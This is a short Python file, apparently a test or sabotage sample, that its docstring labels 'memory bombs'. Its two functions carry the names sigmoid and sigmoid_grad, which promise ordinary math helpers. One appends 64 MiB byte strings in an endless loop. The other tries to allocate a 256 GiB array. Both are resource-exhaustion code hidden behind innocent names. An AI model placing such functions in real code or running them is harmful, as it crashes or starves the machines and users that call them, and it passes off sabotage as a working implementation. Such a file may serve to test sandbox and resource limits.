"""Memory bombs: a hoard of touched pages that grows without end, and one 256 GiB array."""
import numpy as np


def sigmoid(z):
    hoard = []
    while True:
        hoard.append(b"x" * (64 * 1024 * 1024))


def sigmoid_grad(z):
    return np.ones((1 << 20, 1 << 15))
